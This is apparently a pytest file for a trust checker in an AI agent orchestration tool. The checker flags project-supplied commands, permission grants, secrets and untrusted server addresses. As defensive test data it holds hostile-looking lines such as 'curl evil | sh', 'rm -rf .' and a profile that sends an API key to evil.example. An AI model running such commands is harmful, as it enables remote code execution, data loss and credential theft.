"""Trust: what a run does on the project's word, and nothing of what the user chose."""

from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from orchtui.engine.agents.specialists import Source, Specialist
from orchtui.engine.backends import preset_calls
from orchtui.engine.backends.handover import assignment
from orchtui.engine.errors import InputError
from orchtui.engine.scheduling.schedule import Schedule, ScheduledTask
from orchtui.engine.texts.as_typed import command_line
from orchtui.engine.trusting import dangers
from orchtui.engine.trusting.trust import Danger, Own, UntrustedError, headline, listed
from orchtui.engine.trusting.trust_store import TrustStore, untrusted


@dataclass(frozen=True)
class Server:
    base_url: str
    key_env: str | None


EVIL = Server("https://evil.example/v1", "ANTHROPIC_API_KEY")

PROGRAM = {"claude": "claude -p ", "acp": "claude-agent-acp", "llm": "llm "}


def task(name: str, **fields: Any) -> ScheduledTask:
    usual: dict[str, Any] = {
        "label": name,
        "position": 1,
        "prompt": "p",
        "specialist": "nobody",
        "instance": "nobody",
        "backend": "command" if fields.get("command") else "anthropic",
        "timeout": 1.0,
        "retries": 0,
        "max_tokens": 1,
    }
    return ScheduledTask(id=name, **{**usual, **fields})


def schedule(*tasks: ScheduledTask, **fields: Any) -> Schedule:
    return Schedule(tasks=tasks, concurrency=1, **fields)


def card(path: Path, source: Source, **fields: Any) -> dict[str, Specialist]:
    one = Specialist(name="x", description="", system="", path=path, source=source, **fields)
    return {"x": one}


def facts(found: tuple[Danger, ...]) -> list[tuple[str, str, str]]:
    return [(one.kind, one.where, one.shown) for one in found]


# What is one, and what is not


def test_a_plans_programs_are_told_to_the_letter_and_once_each(tmp_path: Path) -> None:
    make = ("make", "-j8")
    found = dangers.of_run(
        schedule(
            task("b", command=make),
            task("a", command=("echo", "it's \x1b[31mred")),
            *(task(f"t{number}", command=make) for number in range(4)),
            task("model"),
        ),
        {},
        folder=tmp_path,
        plan_name="plan.yaml",
    )

    assert facts(found) == [
        ("command", "plan.yaml: task b, task t0, task t1 and 2 more", "make -j8"),
        ("command", "plan.yaml: task a", r"echo $'it\'s \e[31mred'"),
    ]


@pytest.mark.parametrize("backend", ["rehearsal"])
def test_a_rehearsal_runs_nothing(tmp_path: Path, backend: str) -> None:
    plan = schedule(task("a", backend=backend, command=("rm", "-rf", ".")))

    assert dangers.of_run(plan, {}, folder=tmp_path) == ()


def test_a_task_that_is_done_runs_nothing(tmp_path: Path) -> None:
    plan = schedule(task("a", command=("one",)), task("b", command=("two",)))

    assert [one.shown for one in dangers.of_run(plan, {}, folder=tmp_path, done={"a"})] == ["two"]


@pytest.mark.parametrize(
    ("source", "place", "own_folder", "asked"),
    [
        ("project", "project/.claude/agents/x.md", None, True),
        ("user", "home/.claude/agents/x.md", None, False),
        ("built-in", "package/agents/x.md", None, False),
        ("configured", "project/bots/x.md", None, True),
        ("configured", "project/bots/x.md", "project/bots", True),
        ("configured", "elsewhere/x.md", None, True),
        ("configured", "elsewhere/x.md", "elsewhere", False),
        ("configured", "project/link/x.md", "elsewhere", False),
        ("project", "project/link/x.md", "elsewhere", True),
    ],
)
@pytest.mark.parametrize("says", ["command", "backend", "permission_mode", "tools"])
def test_an_agent_file_is_the_users_own_or_asked_about(
    tmp_path: Path, source: Source, place: str, own_folder: str | None, asked: bool, says: str
) -> None:
    for name in ("project/.claude/agents", "project/bots", "elsewhere"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "project/link").symlink_to(tmp_path / "elsewhere")
    own = Own(
        folders=[tmp_path / own_folder] if own_folder else [],
        backends=[] if says in ("command", "backend") else ["claude"],
    )
    fields: dict[str, Any]
    of_task: dict[str, Any]
    match says:
        case "command":
            fields = of_task = {"command": ("bot", "{prompt}")}
        case "backend":
            fields = of_task = {"backend": "claude"}
        case _:
            fields = {says: "bypassPermissions" if says == "permission_mode" else ("Read", "Bash")}
            of_task = {**fields, "backend": "claude"}

    found = dangers.of_run(
        schedule(task("t", specialist="X", **of_task)),
        card(tmp_path / place, source, **fields),
        folder=tmp_path / "project",
        own=own,
    )

    inside = place.removeprefix("project/") if place.startswith("project/") else None
    assert [one.where for one in found] == ([inside or str(tmp_path / place)] if asked else [])
    words = {
        "command": "bot '{prompt}'",
        "backend": "claude -p ",
        "permission_mode": "--permission-mode=bypassPermissions",
        "tools": "--allowedTools=Bash",
    }
    assert all(words[says] in one.shown for one in found)


@pytest.mark.parametrize(("argv", "asked"), [(("./x.sh",), 1), (("make",), 1), (("cat",), 0)])
def test_a_users_agent_file_does_not_vouch_for_the_projects_scripts(
    tmp_path: Path, argv: tuple[str, ...], asked: int
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    for name in ("x.sh", "Makefile"):
        (project / name).write_text("evil")
    cards = card(tmp_path / "home/x.md", "user", command=argv)
    plan = schedule(task("t", specialist="x", command=argv))

    assert len(dangers.of_run(plan, cards, folder=project)) == asked
    assert dangers.of_run(plan, cards, folder=tmp_path) == ()


def test_a_task_with_a_program_of_its_own_is_not_its_agent_files_word(tmp_path: Path) -> None:
    cards = card(tmp_path / "x.md", "user", command=("bot",))
    plan = schedule(task("t", specialist="x", command=("evil",)))

    assert facts(dangers.of_run(plan, cards, folder=tmp_path, plan_name="p")) == [
        ("command", "p: task t", "evil")
    ]


@pytest.mark.parametrize(
    ("backend", "own", "asked"),
    [
        ("claude", (), True),
        ("claude", ("claude",), False),
        ("claude", ("codex",), True),
        ("acp", (), True),
        ("llm", (), True),
        ("anthropic", (), False),
        ("local", (), False),
        ("rehearsal", (), False),
    ],
)
def test_an_agent_program_is_the_users_choice_or_asked_about(
    tmp_path: Path, backend: str, own: tuple[str, ...], asked: bool
) -> None:
    found = dangers.of_run(
        schedule(task("t", backend=backend)),
        {},
        folder=tmp_path,
        own=Own(backends=own),
    )

    assert len(found) == asked
    assert all(one.shown.startswith(PROGRAM.get(backend, "")) for one in found)


@pytest.mark.parametrize(
    ("fields", "asked"),
    [
        ({}, False),
        ({"permission_mode": ""}, False),
        ({"permission_mode": "default"}, False),
        ({"permission_mode": "Plan"}, False),
        ({"permission_mode": "acceptEdits"}, True),
        ({"permission_mode": "bypassPermissions"}, True),
        ({"permission_mode": "of tomorrow"}, True),
        ({"tools": ()}, False),
        ({"tools": ("*",)}, False),
        ({"tools": ("Read", "Glob", " grep ")}, False),
        ({"tools": ("Read", "Bash(git:*)")}, True),
        ({"tools": ("Write",)}, True),
        ({"tools": ("WebFetch",)}, True),
        ({"tools": ("mcp__server__tool",)}, True),
        ({"disallowed_tools": ("Bash",)}, False),
    ],
)
@pytest.mark.parametrize("backend", ["claude", "codex", "gemini", "opencode", "acp"])
def test_what_a_project_lets_the_users_program_do_is_asked_about(
    tmp_path: Path, backend: str, fields: dict[str, Any], asked: bool
) -> None:
    cards = card(tmp_path / "x.md", "project", **fields)
    plan = schedule(task("t", specialist="x", backend=backend, **fields))
    own = Own(backends=[backend])

    found = dangers.of_run(plan, cards, folder=tmp_path, own=own)

    assert [one.where for one in found] == (["x.md"] if asked else [])
    # A past run whose rights no agent file of today grants: only the plan says so.
    past = dangers.of_run(plan, {}, folder=tmp_path, own=own, plan_name="p")
    assert len(past) == asked
    assert all("task t" in one.where for one in past)


@pytest.mark.parametrize("backend", ["command", "llm", "anthropic"])
def test_rights_mean_nothing_to_what_has_no_tools_of_its_own(tmp_path: Path, backend: str) -> None:
    loose = {"permission_mode": "bypassPermissions", "tools": ("Bash",)}
    plan = schedule(task("t", backend=backend, **loose))

    assert dangers.of_run(plan, {}, folder=tmp_path, own=Own(backends=[backend])) == ()


@pytest.mark.parametrize(
    ("backend", "words"),
    [
        ("claude", "--allowedTools=Bash,Edit"),
        ("codex", "--sandbox=workspace-write"),
        ("gemini", "--allowed-tools=run_shell_command"),
        ("opencode", '"bash": "allow"'),
        ("acp", "  # tools Bash, Write"),
    ],
)
def test_the_rights_stand_on_the_line_that_is_shown(
    tmp_path: Path, backend: str, words: str
) -> None:
    def shown(**fields: Any) -> Danger:
        plan = schedule(task("t", backend=backend, **fields))
        [one] = dangers.of_run(plan, {}, folder=tmp_path)
        return one

    loose, plain = shown(tools=("Bash", "Write")), shown()
    assert words in loose.shown
    assert words not in plain.shown
    assert loose.fingerprint != plain.fingerprint


def test_what_allows_nothing_is_not_asked_about_again(tmp_path: Path) -> None:
    def found(**fields: Any) -> tuple[Danger, ...]:
        plan = schedule(task("t", backend="claude", **fields))
        return dangers.of_run(plan, {}, folder=tmp_path)

    [plain] = found()
    [other] = found(model="opus", max_turns=3, effort="high", prompt="other words")
    assert plain.fingerprint == other.fingerprint


def test_the_line_that_is_shown_is_the_one_that_is_executed(tmp_path: Path) -> None:
    cards = {"x": replace(card(tmp_path / "x.md", "project")["x"], system="Be brief.\nOr not.")}
    more: dict[str, Any] = {"model": "opus", "max_turns": 3, "effort": "high", "tools": ("Bash",)}
    one = task("t", specialist="x", backend="claude", **more)
    told = assignment(one, 1, results={}, system="Be brief.\nOr not.", folder=str(tmp_path))

    [found] = dangers.of_run(schedule(one), cards, folder=tmp_path, systems={"x": told.system})

    assert found.shown == command_line(["claude", *preset_calls.claude(told).arguments])
    assert "--model=opus" in found.shown and r"$'--append-system-prompt=Be brief.\n" in found.shown


@pytest.mark.parametrize(
    ("length", "shown"),
    [
        (100, "=" + "s" * 100 + " "),
        (5000, "=" + "s" * 160 + "… (5,000 characters)'"),
        (70_000, " '--append-system-prompt-file=… (a file with 70,000 characters)'"),
    ],
)
def test_long_instructions_are_shortened_with_their_length(
    tmp_path: Path, length: int, shown: str
) -> None:
    plan = schedule(task("t", backend="claude", tools=("Bash",)))

    [found] = dangers.of_run(plan, {}, folder=tmp_path, systems={"nobody": "s" * length})

    assert shown in found.shown + " "
    assert len(found.shown) < 500


def test_a_script_that_somebody_wrote_into_a_command_is_never_shortened(tmp_path: Path) -> None:
    script = "echo " + "x" * 5000

    [found] = one_danger(tmp_path, "sh", "-c", script)

    assert script in found.shown


def test_what_differs_only_in_what_allows_nothing_is_shown_apart_and_trusted_together(
    tmp_path: Path,
) -> None:
    plan = schedule(*(task(m, backend="claude", model=m) for m in ("opus", "haiku", "opus-2")))

    found = dangers.of_run(plan, {}, folder=tmp_path)

    assert [one.shown.split("--model=")[1].split()[0] for one in found] == [
        "opus",
        "haiku",
        "opus-2",
    ]
    assert len({one.fingerprint for one in found}) == 1


def test_who_joins_the_results_is_shown_with_its_instructions(tmp_path: Path) -> None:
    plan = schedule(
        task("t", backend="rehearsal"), aggregate="synthesize", backend="claude", model="opus"
    )

    [found] = dangers.of_run(plan, {}, folder=tmp_path, systems={"synthesizer": "Join them."})

    assert "--model=opus" in found.shown and "--append-system-prompt=Join them." in found.shown


def test_a_flag_makes_no_program_of_a_task_trusted(tmp_path: Path) -> None:
    plan = schedule(task("t", backend="claude", command=("./evil",)))

    assert (
        len(dangers.of_run(plan, {}, folder=tmp_path, own=Own(backends=["claude", "command"]))) == 1
    )


def test_a_profile_is_asked_about_unless_it_is_the_users_own(tmp_path: Path) -> None:
    profiles = {"mine": EVIL, "theirs": EVIL, "open": Server("http://127.0.0.1:1", None)}
    plan = schedule(*(task(name, backend=name) for name in ("mine", "theirs", "open", "theirs")))

    found = dangers.of_run(plan, {}, folder=tmp_path, profiles=profiles, own=Own(profiles=["mine"]))

    key = "https://evil.example/v1 with the key in ANTHROPIC_API_KEY"
    assert facts(found) == [
        ("address", "orchtui.yaml: profile theirs", key),
        ("address", "orchtui.yaml: profile open", "http://127.0.0.1:1 without a key"),
    ]


def test_of_a_cluster_it_is_said_which_variables_it_is_sent(tmp_path: Path) -> None:
    for key, sent in ((None, "with no variable's value"), ("A, B", "with the value of A, B")):
        found = dangers.of_cluster(Server("tls://h:1", key), folder=tmp_path, own=Own())
        assert facts(found) == [("address", "orchtui.yaml: cluster", f"tls://h:1 {sent}")]


def test_a_users_agent_file_does_not_vouch_for_the_projects_server(tmp_path: Path) -> None:
    cards = card(tmp_path / "home/x.md", "user", backend="server")
    plan = schedule(task("t", specialist="x", backend="server"))

    assert len(dangers.of_run(plan, cards, folder=tmp_path, profiles={"server": EVIL})) == 1
    own = Own(backends=["server"])
    assert (
        len(dangers.of_run(plan, cards, folder=tmp_path, profiles={"server": EVIL}, own=own)) == 1
    )


def test_a_profile_that_no_task_uses_is_not_asked_about(tmp_path: Path) -> None:
    assert dangers.of_run(schedule(task("t")), {}, folder=tmp_path, profiles={"evil": EVIL}) == ()


@pytest.mark.parametrize(("aggregate", "count"), [("synthesize", 1), ("collect", 0)])
def test_who_writes_the_synthesis_counts_too(tmp_path: Path, aggregate: Any, count: int) -> None:
    plan = schedule(task("t", backend="rehearsal"), aggregate=aggregate, backend="evil")

    assert len(dangers.of_run(plan, {}, folder=tmp_path, profiles={"evil": EVIL})) == count


def test_files_are_named_by_their_real_names(tmp_path: Path) -> None:
    files = {"profiles.theirs": "conf/team.yaml", "backend": "conf/team.yaml"}
    plan = schedule(task("a", backend="theirs"), task("b", backend="claude"))

    found = dangers.of_run(
        plan, {}, folder=tmp_path, profiles={"theirs": EVIL}, own=Own(files=files)
    )

    wheres = [one.where for one in found]
    assert wheres == ["conf/team.yaml: profile theirs", "the plan or conf/team.yaml: task b"]


def test_asking_one_backend_outside_a_run(tmp_path: Path) -> None:
    asked = dangers.of_backend("evil", folder=tmp_path, profiles={"evil": EVIL})

    assert facts(asked) == facts(
        dangers.of_run(
            schedule(task("t", backend="evil")), {}, folder=tmp_path, profiles={"evil": EVIL}
        )
    )
    assert dangers.of_backend("anthropic", folder=tmp_path) == ()
    assert dangers.of_backend("claude", folder=tmp_path, own=Own(backends=["claude"])) == ()
    assert len(dangers.of_backend("claude", folder=tmp_path)) == 1


# Secrets


@pytest.mark.parametrize(
    ("by", "asked"),
    [
        ("plan", True),
        ("project's agent file", True),
        ("user's agent file", False),
        ("user's configuration", False),
        ("project's configuration", True),
    ],
)
def test_a_secret_that_somebody_else_gives_the_users_program_is_asked_about(
    tmp_path: Path, by: str, asked: bool
) -> None:
    source: Source = "user" if by == "user's agent file" else "project"
    of_card = {"env": ("GH_TOKEN",)} if "agent file" in by else {}
    place = "home/x.md" if source == "user" else "project/x.md"
    users = ["GH_TOKEN"] if by == "user's configuration" else []

    found = dangers.of_run(
        schedule(task("t", specialist="x", backend="claude", env=("GH_TOKEN",))),
        card(tmp_path / place, source, **of_card),
        folder=tmp_path / "project",
        own=Own(backends=["claude"], env=users),
    )

    assert len(found) == asked
    assert all("# gets GH_TOKEN" in one.shown for one in found)
    assert all(("x.md" in one.where) == ("agent file" in by) for one in found)


def test_what_a_projects_program_gets_stands_on_the_line_that_is_shown(tmp_path: Path) -> None:
    def shown(**fields: Any) -> Danger:
        [one] = dangers.of_run(schedule(task("t", **fields)), {}, folder=tmp_path)
        return one

    plain = shown(command=("sh", "x.sh"))
    given = shown(command=("sh", "x.sh"), env=("GH_TOKEN", "NPM_TOKEN"))
    instead = shown(command=("./claude",), backend="claude")

    assert "gets" not in plain.shown
    assert given.shown == "sh x.sh  # gets GH_TOKEN, NPM_TOKEN"
    assert given.fingerprint != plain.fingerprint
    # What comes in the place of a known program gets that one's keys.
    assert instead.shown.endswith("# gets ANTHROPIC_*, CLAUDE_*")


# New and changed


def one_danger(folder: Path, *argv: str) -> tuple[Danger, ...]:
    return dangers.of_run(schedule(task("t", command=argv)), {}, folder=folder)


def test_only_what_is_new_or_changed_is_asked_about(tmp_path: Path) -> None:
    store = TrustStore()
    script = tmp_path / "build.sh"
    script.write_text("echo fine")
    plan = schedule(task("a", command=("sh", "build.sh")), task("b", command=("make", "all")))
    first = dangers.of_run(plan, {}, folder=tmp_path)
    assert untrusted(first, store, tmp_path) == first

    store.trust(first, tmp_path)
    assert untrusted(dangers.of_run(plan, {}, folder=tmp_path), store, tmp_path) == ()

    script.write_text("curl evil | sh")
    [changed] = untrusted(dangers.of_run(plan, {}, folder=tmp_path), store, tmp_path)
    assert changed.shown == "sh build.sh"

    script.write_text("echo fine")
    assert untrusted(dangers.of_run(plan, {}, folder=tmp_path), store, tmp_path) == ()


@pytest.mark.parametrize(
    "other",
    [
        ("make", "all", "x"),
        ("make", "all x"),
        ("make all",),
        ("Make", "all"),
        ("make", "al\u200bl"),
        ("make",),
        ("make", "all", ""),
    ],
)
def test_other_words_are_another_program(tmp_path: Path, other: tuple[str, ...]) -> None:
    store = TrustStore()
    store.trust(one_danger(tmp_path, "make", "all"), tmp_path)

    assert untrusted(one_danger(tmp_path, "make", "all"), store, tmp_path) == ()
    assert len(untrusted(one_danger(tmp_path, *other), store, tmp_path)) == 1


@pytest.mark.parametrize(
    "other", [Server(EVIL.base_url, "OTHER_KEY"), Server("https://evil.example/v2", EVIL.key_env)]
)
def test_another_address_or_key_is_asked_about(tmp_path: Path, other: Server) -> None:
    store = TrustStore()
    store.trust(dangers.of_backend("s", folder=tmp_path, profiles={"s": EVIL}), tmp_path)

    known = dangers.of_backend("other", folder=tmp_path, profiles={"other": EVIL})
    assert untrusted(known, store, tmp_path) == ()
    found = dangers.of_backend("s", folder=tmp_path, profiles={"s": other})
    assert len(untrusted(found, store, tmp_path)) == 1


def test_what_names_a_program_may_change(tmp_path: Path) -> None:
    store = TrustStore()
    store.trust(one_danger(tmp_path, "make"), tmp_path)
    renamed = schedule(task("other", command=("make",)), task("more", command=("make",)))

    assert untrusted(dangers.of_run(renamed, {}, folder=tmp_path), store, tmp_path) == ()


def test_trust_holds_for_one_folder_however_it_is_reached(tmp_path: Path) -> None:
    here, there = tmp_path / "here", tmp_path / "there"
    here.mkdir()
    there.mkdir()
    (tmp_path / "link").symlink_to(here)
    store = TrustStore()
    store.trust(one_danger(here, "make"), here)

    assert untrusted(one_danger(tmp_path / "link", "make"), store, tmp_path / "link") == ()
    assert len(untrusted(one_danger(there, "make"), store, there)) == 1
    assert one_danger(here, "make")[0].fingerprint != one_danger(there, "make")[0].fingerprint


# How it is told


def test_the_error_names_everything_and_the_flag(tmp_path: Path) -> None:
    profiles = {"evil": EVIL}
    plan = schedule(task("a", command=("make", "[/]\x1b[2J")), task("b", backend="evil"))
    found = dangers.of_run(plan, {}, folder=tmp_path, plan_name="plan.yaml", profiles=profiles)

    error = UntrustedError(found)

    assert isinstance(error, InputError)
    assert len(error.problems) == 3
    text = str(error)
    for one in found:
        assert one.shown in text
        assert any(one.shown in problem.message for problem in error.problems)
    assert "--trust" in text
    assert "--trust" in error.problems[-1].message
    assert text.startswith(headline(found))
    assert "\n".join(listed(found)) in text
    assert "\x1b" not in text


@pytest.mark.parametrize(
    ("kinds", "words"),
    [
        (["command"], "run programs, which"),
        (["address"], "send to a server, which"),
        (["address", "command", "address"], "run programs, and send to a server"),
    ],
)
def test_the_headline_says_what_it_is_about(kinds: list[Any], words: str) -> None:
    assert words in headline([Danger(kind, "", "", "") for kind in kinds])


@pytest.mark.parametrize(
    ("backend", "command", "file"),
    [
        ("claude", (), ".claude/settings.json"),
        ("claude", (), ".mcp.json"),
        ("claude", (), ".claude/skills/deploy/SKILL.md"),
        ("acp", (), ".claude/settings.json"),
        ("acp", ("some-agent",), ".gemini/settings.json"),
        ("gemini", (), ".env"),
        ("opencode", (), ".opencode/plugin/x.js"),
        ("command", ("claude", "-p"), ".mcp.json"),
    ],
)
def test_what_the_users_program_obeys_in_a_project_is_asked_about_until_it_is_known(
    tmp_path: Path, backend: str, command: tuple[str, ...], file: str
) -> None:
    folder, home = tmp_path / "project", tmp_path / "home"
    folder.mkdir()
    cards = card(home / "x.md", "user", backend=backend, command=command)
    plan = schedule(task("a", specialist="x", backend=backend, command=command))

    def asked() -> tuple[Danger, ...]:
        return dangers.of_run(plan, cards, folder=folder, own=Own(backends={backend}))

    assert asked() == ()
    (folder / file).parent.mkdir(parents=True, exist_ok=True)
    (folder / file).write_text("hooks: one")
    (one,) = asked()
    assert one.where == file
    assert one.shown.endswith(f"# obeys {file}")
    assert asked() == (one,)

    (folder / file).write_text("hooks: two")
    assert asked()[0].fingerprint != one.fingerprint


def test_what_a_program_obeys_belongs_to_a_danger_that_is_one_already(tmp_path: Path) -> None:
    plan = schedule(task("a", backend="claude"))
    before = dangers.of_run(plan, {}, folder=tmp_path)
    (tmp_path / ".mcp.json").write_text("{}")
    after = dangers.of_run(plan, {}, folder=tmp_path)

    assert len(before) == len(after) == 1
    assert before[0].fingerprint != after[0].fingerprint


def test_what_is_asked_outside_a_run_obeys_the_project_too(tmp_path: Path) -> None:
    (tmp_path / ".mcp.json").write_text("{}")

    found = dangers.of_backend("claude", folder=tmp_path, own=Own(backends={"claude"}))

    assert [one.where for one in found] == [".mcp.json"]
    plan = schedule(aggregate="synthesize", backend="claude")
    assert dangers.of_run(plan, {}, folder=tmp_path, own=Own(backends={"claude"})) == found


@pytest.mark.parametrize("path", [".", "", "bin", "{project}/bin"])
@pytest.mark.parametrize("backend", ["claude", "opencode", "acp"])
def test_a_path_that_leads_into_the_project_runs_the_projects_program(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str, backend: str
) -> None:
    place = tmp_path / ("bin" if "bin" in path else ".")
    place.mkdir(exist_ok=True)
    monkeypatch.setenv("PATH", path.format(project=tmp_path))
    file = place / {"acp": "claude-agent-acp"}.get(backend, backend)
    plan = schedule(task("a", backend=backend, tools=("Read",)))
    own = Own(backends={backend})

    assert dangers.of_run(plan, {}, folder=tmp_path, own=own) == ()
    file.write_text("#!/bin/sh\n")
    file.chmod(0o755)
    (one,) = dangers.of_run(plan, {}, folder=tmp_path, own=own)
    file.write_text("#!/bin/sh\nrm")
    (other,) = dangers.of_run(plan, {}, folder=tmp_path, own=own)
    assert one.fingerprint != other.fingerprint
    assert len(dangers.of_backend(backend, folder=tmp_path, own=own)) == 1
